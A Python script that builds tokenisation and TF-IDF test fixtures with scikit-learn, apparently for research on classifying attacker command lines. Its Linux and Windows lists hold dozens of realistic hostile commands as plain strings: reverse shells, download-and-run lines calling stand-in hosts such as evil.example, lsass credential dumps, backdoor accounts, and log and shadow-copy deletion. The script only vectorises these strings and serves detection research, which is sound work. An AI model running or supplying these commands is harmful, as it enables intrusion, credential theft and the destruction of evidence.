#!/usr/bin/env python3
"""Golden fixtures for the Text tests, produced by scikit-learn's TfidfVectorizer and Python's re.

Run from this folder with scikit-learn 1.2 (numpy, scipy):  python3 make_fixtures.py
Writes tokens.json and tfidf_*.json. The corpora are written here by hand (realistic attacker command lines,
Linux and Windows) plus deterministic recombinations of them; nothing is read from outside this folder.

Each tfidf_*.json holds: the options, the fit corpus, the documents transformed (the fit corpus followed by
held-out lines), the vocabulary in index order, idf, and the matrix as (row, column, value) triples (scikit-learn's
CSR rows are not column-sorted, so tests compare entry sets).
"""
import json
import random
import re

import numpy as np
import sklearn
from sklearn.feature_extraction.text import TfidfVectorizer

STUDY_PATTERN = (r"(?:https?://[^\s]+)|(?:\b(?:\d{1,3}\.){3}\d{1,3}\b)|(?:[A-Za-z]:\\[^\s]+)"
                 r"|(?:/(?:[^ \t\n\r\f\v/]+/)*[^ \t\n\r\f\v]+)|(?:--?[\w-]+(?:=[^\s]+)?)|(?:\$\{?\w+\}?)"
                 r"|(?:0x[0-9a-fA-F]+)|(?:[A-Za-z_]\w+)|(?:\d+)")

LINUX = [
    "cat /etc/passwd",
    "cat /etc/shadow > /tmp/shadow.bak",
    "ssh user@10.35.108.10:22",
    "ls -la --color=auto /tmp/file[1].txt",
    "curl -s http://10.0.0.5:8080/payload.sh | bash",
    "wget https://raw.githubusercontent.example/atomic/install.sh -O /tmp/install.sh",
    "chmod +x /tmp/install.sh && /tmp/install.sh",
    "nc -e /bin/sh 192.168.1.20 4444",
    "bash -i >& /dev/tcp/192.168.1.20/4444 0>&1",
    "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'",
    "echo $HOME ${PATH} $SHELL",
    "export HISTFILE=/dev/null",
    "crontab -l | { cat; echo \"* * * * * /tmp/beacon\"; } | crontab -",
    "useradd -m -s /bin/bash backdoor",
    "echo 'backdoor:P@ssw0rd!' | chpasswd",
    "sudo -l",
    "find / -perm -4000 -type f 2>/dev/null",
    "grep -ri password /var/www/html --include=*.php",
    "tar -czf /tmp/loot.tgz /home/user/.ssh",
    "scp /tmp/loot.tgz root@203.0.113.7:/srv/drop/",
    "iptables -F",
    "systemctl stop auditd",
    "rm -rf /var/log/audit/audit.log",
    "history -c",
    "ps aux | grep -v grep | grep sshd",
    "uname -a; id; whoami",
    "cat /proc/1/maps | grep heap",
    "dd if=/dev/zero of=/tmp/fill bs=1M count=100",
    "base64 -d /tmp/p.b64 > /tmp/p && chmod 755 /tmp/p",
    "openssl enc -aes-256-cbc -in /etc/hosts -out /tmp/h.enc -k 0x1f2e",
    "ping -c 4 1.2.3.4.5",
    "arp -a",
    "netstat -tulpn",
    "ip addr show eth0",
    "cat ~/.bash_history",
    "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.10.10.10 9001 > /tmp/f",
    "perl -e 'print \"A\" x 1024'",
    "setfacl -m u:nobody:rwx /etc/sudoers",
    "ln -s /dev/null ~/.bash_history",
    "kill -9 $(pgrep -f auditd)",
]

WINDOWS = [
    "powershell -Command Get-Process",
    "powershell.exe -nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    "cmd.exe /c whoami /all",
    "\"C:\\Program Files\\Internet Explorer\\iexplore.exe\" http://evil.example/x",
    "C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full",
    "reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v evil /t REG_SZ /d C:\\Temp\\evil.exe",
    "schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc onlogon",
    "net user backdoor P@ssw0rd! /add",
    "net localgroup administrators backdoor /add",
    "vssadmin delete shadows /all /quiet",
    "wmic process call create \"cmd.exe /c calc.exe\"",
    "certutil -urlcache -split -f http://10.0.0.5/p.exe C:\\Temp\\p.exe",
    "bitsadmin /transfer job /download /priority high http://10.0.0.5/a.exe C:\\Temp\\a.exe",
    "mshta.exe javascript:a=GetObject(\"script:https://evil.example/x.sct\").Exec();close();",
    "regsvr32 /s /n /u /i:http://evil.example/file.sct scrobj.dll",
    "\"C:\\AtomicRedTeam\\atomics\\..\\ExternalPayloads\\procdump.exe\" -accepteula -mm lsass.exe C:\\Windows\\Temp\\lsass_dump.dmp",
    "Set-MpPreference -DisableRealtimeMonitoring $true",
    "Invoke-WebRequest -Uri https://evil.example/m.ps1 -OutFile $env:TEMP\\m.ps1",
    "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/Invoke-Mimikatz.ps1')",
    "sc.exe create evilsvc binPath= C:\\Temp\\svc.exe start= auto",
    "wevtutil cl Security",
    "nltest /domain_trusts",
    "ipconfig /all",
    "tasklist /v",
    "netsh advfirewall set allprofiles state off",
    "attrib +h C:\\Users\\Public\\secret.txt",
    "copy \\\\10.1.2.3\\share\\tool.exe %TEMP%\\tool.exe",
    "Get-WmiObject -Class Win32_Process -Filter \"name='lsass.exe'\"",
    "Start-Process -FilePath C:\\Temp\\x.exe -WindowStyle Hidden",
    "bcdedit /set {default} recoveryenabled no",
    "fsutil usn deletejournal /d C:",
    "rundll32.exe shell32.dll,Control_RunDLL C:\\Temp\\x.cpl",
    "powershell -ep bypass -file C:\\Temp\\s.ps1 --color=never",
    "esentutl.exe /y /vss C:\\Windows\\NTDS\\ntds.dit /d C:\\Temp\\ntds.dit",
    "cmstp.exe /s C:\\Temp\\cmstp.inf",
    "whoami /priv",
    "net group \"Domain Admins\" /domain",
    "klist purge",
    "Remove-Item -Path C:\\Windows\\Temp\\*.log -Force",
    "forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe",
]

HOSTS = ["10.0.0.5", "192.168.1.20", "203.0.113.7", "172.16.0.9"]
PATHS = ["/tmp/a.sh", "/var/tmp/.x", "/dev/shm/k", "/opt/tool/run"]
WIN_PATHS = ["C:\\Temp\\a.exe", "C:\\Users\\Public\\b.ps1", "C:\\ProgramData\\c.dll"]


def recombined(lines, extra, seed, count):
    """Deterministic recombinations: a line, optionally chained to another, with an artifact appended."""
    rng = random.Random(seed)
    out = []
    for _ in range(count):
        line = rng.choice(lines)
        if rng.random() < 0.4:
            line = line + rng.choice([" ; ", " && ", " | ", "  ", "\t"]) + rng.choice(lines)
        if rng.random() < 0.5:
            line = line + " " + rng.choice(extra)
        out.append(line)
    return out


LINUX_CORPUS = LINUX + recombined(LINUX, HOSTS + PATHS, 1, 80)
WINDOWS_CORPUS = WINDOWS + recombined(WINDOWS, HOSTS + WIN_PATHS, 2, 60)
MIXED_CORPUS = recombined(LINUX + WINDOWS, HOSTS + PATHS + WIN_PATHS, 3, 150)
HELD_OUT = [
    "nmap -sS -p 1-65535 10.9.8.7",
    "CAT /ETC/PASSWD",
    "",
    "completely unseen words here",
    "powershell -Command Get-Process; cat /etc/passwd",
]


def tokens_fixture():
    examples = LINUX + WINDOWS + [
        "P@ssw0rd!", "a/b/c", "1.2.3.4.5", "999.1.1.1", "0x1g", "-- - -=", "${x} $y} $", "http://a)\"b c",
        "C:\\Program Files\\x", "-Command Get-Process", "//", "_x 1_ x1 __", "1234.1.1.1 1.2.3.4a",
    ]
    pattern = re.compile(STUDY_PATTERN)
    return [{"command": c, "tokens": pattern.findall(c.lower())} for c in examples]


def max_features_without_tie(corpus, ngram_range, near, analyzer="word"):
    """A max_features value near `near` whose cut falls between two different total counts, so the kept set
    does not depend on scikit-learn's arbitrary tie-breaking."""
    counts = TfidfVectorizer(token_pattern=STUDY_PATTERN, analyzer=analyzer, ngram_range=ngram_range, use_idf=False, norm=None) \
        .fit_transform(corpus).sum(axis=0).A1
    ranked = sorted(counts, reverse=True)
    for k in range(near, len(ranked)):
        if ranked[k - 1] > ranked[k]:
            return k
    raise ValueError("no tie-free cut")


def tfidf_fixture(name, corpus, **options):
    vectorizer = TfidfVectorizer(token_pattern=STUDY_PATTERN, dtype=np.float64, **options)
    vectorizer.fit(corpus)
    documents = corpus + HELD_OUT
    x = vectorizer.transform(documents).tocoo()
    vocabulary = vectorizer.get_feature_names_out().tolist()
    assert all(vectorizer.vocabulary_[t] == i for i, t in enumerate(vocabulary))
    fixture = {
        "generator": f"scikit-learn {sklearn.__version__} TfidfVectorizer",
        "options": {k: (list(v) if isinstance(v, tuple) else v) for k, v in options.items()},
        "corpus": corpus,
        "documents": documents,
        "vocabulary": vocabulary,
        "idf": vectorizer.idf_.tolist(),
        "entries": [[int(r), int(c), float(v)] for r, c, v in zip(x.row, x.col, x.data)],
    }
    with open(f"tfidf_{name}.json", "w", encoding="utf-8") as f:
        json.dump(fixture, f, ensure_ascii=False, separators=(",", ":"))


def sample_corpus():
    """The project's data/commands.csv, consolidated by (proctitle, technique_grouped) in file order, as the study did."""
    import csv
    import os
    path = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "..", "..", "data", "commands.csv")
    seen, corpus = set(), []
    with open(path, newline="", encoding="utf-8") as f:
        for row in csv.DictReader(f):
            key = (row["proctitle"], row["technique_grouped"])
            if key not in seen:
                seen.add(key)
                corpus.append(row["proctitle"])
    return corpus


def main():
    with open("tokens.json", "w", encoding="utf-8") as f:
        json.dump(tokens_fixture(), f, ensure_ascii=False, indent=1)
    tfidf_fixture("linux_word_default", LINUX_CORPUS, ngram_range=(1, 2))
    tfidf_fixture("windows_word_max_features", WINDOWS_CORPUS, ngram_range=(1, 2),
                  max_features=max_features_without_tie(WINDOWS_CORPUS, (1, 2), 60))
    tfidf_fixture("mixed_word_min_max_df_sublinear", MIXED_CORPUS, ngram_range=(1, 2), min_df=2, max_df=0.3,
                  sublinear_tf=True)
    tfidf_fixture("linux_word_trigrams_no_norm_no_smooth", LINUX_CORPUS, ngram_range=(1, 3), norm=None,
                  smooth_idf=False)
    tfidf_fixture("mixed_word_unigrams_keep_case_fraction_min_df", MIXED_CORPUS, ngram_range=(1, 1),
                  lowercase=False, min_df=0.02, max_df=40)
    tfidf_fixture("windows_char_2_5", WINDOWS, analyzer="char", ngram_range=(2, 5))
    tfidf_fixture("mixed_char_wb_2_5_min_df", MIXED_CORPUS[:60], analyzer="char_wb", ngram_range=(2, 5), min_df=3,
                  sublinear_tf=True)
    tfidf_fixture("linux_char_wb_1_3", LINUX, analyzer="char_wb", ngram_range=(1, 3))
    sample = sample_corpus()
    tfidf_fixture("sample_word_study", sample, ngram_range=(1, 2), max_features=5000)
    tfidf_fixture("sample_char_wb_2_5_max_features", sample, analyzer="char_wb", ngram_range=(2, 5),
                  max_features=max_features_without_tie(sample, (2, 5), 3000, analyzer="char_wb"))


if __name__ == "__main__":
    main()
